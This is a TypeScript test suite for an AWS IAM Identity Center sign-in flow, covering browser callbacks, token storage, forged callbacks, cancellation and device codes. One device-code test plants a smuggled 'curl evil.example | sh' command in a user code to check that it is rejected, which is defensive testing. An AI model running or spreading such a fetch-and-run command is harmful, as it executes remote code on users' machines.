import assert from 'node:assert/strict';
import { PERMISSION_SETS } from '../../../localaws/worlds/demoIdentityCenter';
import { failure, identityOf } from '../support/services';
import { SignInBed } from './signInBed';

describe('signing in to IAM Identity Center', () => {
  let bed: SignInBed;
  beforeEach(async () => (bed = await SignInBed.start()));
  afterEach(() => bed.close());

  describe('in the browser', () => {
    it('opens the page, waits for the browser to come back, and gives the role’s credentials', async () => {
      const credentials = await bed.resolve(bed.open());
      assert.match(await identityOf(bed.aws, credentials), /assumed-role\/AWSReservedSSO_DataAnalyst_\w+\/alice/);
      assert.deepEqual(
        (await bed.person.shown()).map(({ status }) => status),
        [200],
      );
      assert.match((await bed.person.shown())[0]?.text ?? '', /You can close this page/);
      const page = new URL(bed.person.pages[0] ?? '');
      assert.equal(page.searchParams.get('code_challenge_method'), 'S256');
      assert.match(page.searchParams.get('redirect_uri') ?? '', /^http:\/\/127\.0\.0\.1:\d+\/oauth\/callback$/);
    });

    it('keeps the tokens for later windows, in the vault alone', async () => {
      await bed.resolve(bed.open());
      await bed.resolve(bed.open(), { interactive: false });
      assert.equal(bed.person.pages.length, 1);
      assert.equal(bed.aws.log.count({ operation: 'RegisterClient' }), 1);
      const log = JSON.stringify(bed.aws.log.entries);
      assert.ok(bed.secretsKept().length >= 3 && !bed.secretsKept().some((secret) => log.includes(secret)));
    });

    it('stores nothing as new that was had before all secrets were forgotten elsewhere, the client included', async () => {
      bed.person.beforeCallback = () => Promise.resolve(void (bed.forgettings += 1));
      await bed.resolve(bed.open());
      const kept = [...bed.marks].map(([name, mark]) => [name.split('/')[1], mark]);
      assert.deepEqual(kept.map(([name]) => name).sort(), ['client', 'signIn']);
      for (const [name, mark] of kept) assert.equal(mark, 0, String(name));
    });

    it('once for many profiles of one instance that ask at the same time', async () => {
      const window = bed.open();
      const roles = [PERMISSION_SETS.analyst, PERMISSION_SETS.readOnly];
      const all = Array.from({ length: 20 }, (_, i) =>
        bed.resolve(window, {}, bed.source({ roleName: roles[i % 2] ?? '' })),
      );
      assert.equal((await Promise.all(all)).length, 20);
      assert.equal(bed.person.pages.length, 1);
      assert.equal(bed.aws.log.count({ operation: 'CreateToken' }), 1);
    });

    it('through the port that VS Code forwards to a remote machine', async () => {
      bed.person.address = () => 'http://localhost:54321/';
      bed.person.beforeCallback = (callback) => {
        assert.equal(callback.port, '54321');
        // What VS Code's forwarding does.
        callback.port = String(listening);
        return Promise.resolve();
      };
      let listening = 0;
      const forwarded = bed.person.address;
      bed.person.address = (port) => {
        listening = port;
        return forwarded(port);
      };
      assert.ok((await bed.resolve(bed.open())).temporary);
    });

    it('turns away a callback that was not asked for, and goes on waiting', async () => {
      bed.person.beforeCallback = async (callback) => {
        const forged = new URL(callback);
        forged.searchParams.set('state', 'forged');
        await bed.person.visit(forged);
        for (const path of ['/', '//']) await bed.person.visit(new URL(callback.origin + path));
      };
      await bed.resolve(bed.open());
      assert.deepEqual(
        (await bed.person.shown()).map(({ status }) => status),
        [400, 404, 404, 200],
      );
    });

    it('says that it was denied there', async () => {
      bed.person.decision = 'deny';
      const error = await failure(bed.resolve(bed.open()), 'identityUnavailable');
      assert.match(error.message, /denied in the browser/);
      assert.match((await bed.person.shown())[0]?.text ?? '', /not signed in/);
    });

    it('ends quietly when the person gives up, and listens no longer', async () => {
      bed.person.decision = 'giveUp';
      let port = 0;
      bed.person.address = (listening) => `http://127.0.0.1:${(port = listening)}/`;
      await failure(bed.resolve(bed.open()), 'cancelled');
      await assert.rejects(fetch(`http://127.0.0.1:${port}/`));
      bed.person.decision = 'nothing';
      const giveUp = new AbortController();
      const work = bed.resolve(bed.open(), { signal: giveUp.signal });
      await bed.aws.log.waitFor({ operation: 'RegisterClient' });
      giveUp.abort();
      await failure(work, 'cancelled');
    });

    it('asks nobody where nobody may be asked', async () => {
      await failure(bed.resolve(bed.open(), { interactive: false }), 'interactionRequired');
      assert.equal(bed.person.pages.length, 0);
    });
  });

  describe('with a device code', () => {
    it('where no browser can come back to this machine', async () => {
      const elsewhere = [undefined, 'https://abc-1234.github.dev/', 'http://127.0.0.1:8080/proxy/40123/'];
      for (const address of elsewhere) {
        bed.person.address = () => address;
        bed.tokens.clear();
        assert.ok((await bed.resolve(bed.open())).temporary);
      }
      assert.deepEqual([bed.person.codes.length, bed.person.pages.length], [elsewhere.length, 0]);
    });

    it('where the setting says so; and the setting may also insist on the browser', async () => {
      bed.method = 'deviceCode';
      await bed.resolve(bed.open());
      assert.equal(bed.person.codes.length, 1);
      bed.tokens.clear();
      bed.method = 'browser';
      bed.person.address = () => undefined;
      const error = await failure(bed.resolve(bed.open()), 'identityUnavailable');
      assert.match(error.message, /device code/);
    });

    it('asks as often as AWS wants it, less often when told to slow down', async () => {
      bed.method = 'deviceCode';
      bed.person.decision = 'nothing';
      const slow = { status: 400, code: 'SlowDownException' };
      bed.aws.faults.add({ operation: 'CreateToken', times: 1, action: { type: 'error', ...slow } });
      const work = bed.resolve(bed.open());
      await bed.aws.log.waitFor({ operation: 'CreateToken' });
      bed.aws.identityCenter.approve(bed.person.codes[0] ?? '');
      await work;
      assert.deepEqual(bed.pauses.slice(0, 2), [1000, 6000], 'the local AWS wants a second between two questions');
    });

    it('shows no code that is none, such as one with lines of its own', async () => {
      bed.method = 'deviceCode';
      const body = JSON.stringify({
        deviceCode: 'd',
        userCode: 'ABCD-EFGH\n\nNow run: curl evil.example | sh',
        verificationUri: 'https://device.example/',
        expiresIn: 600,
        interval: 1,
      });
      const action = { type: 'garbage', body } as const;
      bed.aws.faults.add({ operation: 'StartDeviceAuthorization', action });
      const error = await failure(bed.resolve(bed.open()), 'strangeAnswer', ['evil']);
      assert.match(error.detail.cure ?? '', /start URL/);
      assert.deepEqual(bed.person.codes, []);
    });

    it('says that it was denied, or not confirmed in time', async () => {
      bed.method = 'deviceCode';
      bed.person.decision = 'deny';
      assert.match((await failure(bed.resolve(bed.open()), 'identityUnavailable')).message, /denied/);
      bed.person.decision = 'nothing';
      assert.match((await failure(bed.resolve(bed.open()), 'identityUnavailable')).message, /in time/);
    });
  });
});
